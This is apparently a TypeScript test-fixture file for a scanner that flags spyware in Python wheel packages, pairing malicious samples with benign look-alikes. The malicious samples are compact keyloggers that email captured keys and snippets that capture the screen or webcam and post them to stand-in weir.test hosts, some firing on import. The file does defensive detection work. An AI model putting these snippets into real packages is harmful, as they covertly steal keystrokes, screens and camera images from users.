import type { Sample, Samples } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

function at(rule: string, severity: 'medium' | 'high', line: number): Sample['expected'] {
  return [{ rule, file: 'own/__init__.py', line, severity }];
}

export const samples: Samples = {
  malicious: [
    {
      name: 'keys that are mailed once there are enough of them, in a function',
      files: wheel(
        "import smtplib\nfrom pynput.keyboard import Listener\nlog = []\ndef note(key):\n    log.append(str(key))\n    if len(log) > 100:\n        smtplib.SMTP('mail.weir.test').sendmail('a@weir.test', 'b@weir.test', ''.join(log))\ndef start():\n    Listener(on_press=note).start()\n",
      ),
      expected: at('keys', 'high', 9),
    },
    {
      name: 'keys that are mailed',
      files: wheel(
        "import smtplib\nfrom pynput import keyboard\nlog = []\ndef mail():\n    s = smtplib.SMTP('mail.weir.test')\n    s.sendmail('a@weir.test', 'b@weir.test', ''.join(log))\nmail()\nkeyboard.Listener(on_press=log.append).start()\n",
      ),
      expected: at('keys', 'high', 8),
    },
    {
      name: 'the screen, posted when the module is loaded',
      files: wheel(
        "import pyautogui, requests\npyautogui.screenshot().save('s.png')\nrequests.post('https://api.weir.test/s', files={'s': open('s.png', 'rb')})\n",
      ),
      expected: at('screen', 'high', 2),
    },
    {
      name: 'the camera, in a function that the module calls',
      files: wheel(
        "import cv2, requests\ndef look():\n    camera = cv2.VideoCapture(0)\n    requests.post('https://api.weir.test/c', data=camera.read()[1])\nlook()\n",
      ),
      expected: at('camera', 'high', 3),
    },
    {
      name: 'a picture of the screen that a function hands over',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import pyautogui, requests\ndef go():\n    pyautogui.screenshot('own.png')\n    requests.post('https://count.weir.test/up', files={'own': open('own.png', 'rb')})\n",
      },
      expected: [{ rule: 'screen', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
  ],
  benign: [
    quiet('a picture of the screen that a service is asked about', {
      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
      'own/__init__.py':
        "import pyautogui, requests\ndef read():\n    pyautogui.screenshot('own.png')\n    answer = requests.post('https://read.weir.test/text', files={'own': open('own.png', 'rb')})\n    return answer.json()\n",
    }),
    quiet(
      'keys of a game',
      wheel('from pynput import keyboard\ndef play(press):\n    keyboard.Listener(on_press=press).start()\n'),
    ),
    quiet(
      'pictures for a test',
      wheel('import pyautogui\ndef picture(path):\n    pyautogui.screenshot().save(path)\n'),
    ),
    quiet(
      'a client',
      wheel("import requests\ndef get():\n    return requests.get('https://api.weir.test/')\n"),
    ),
  ],
};
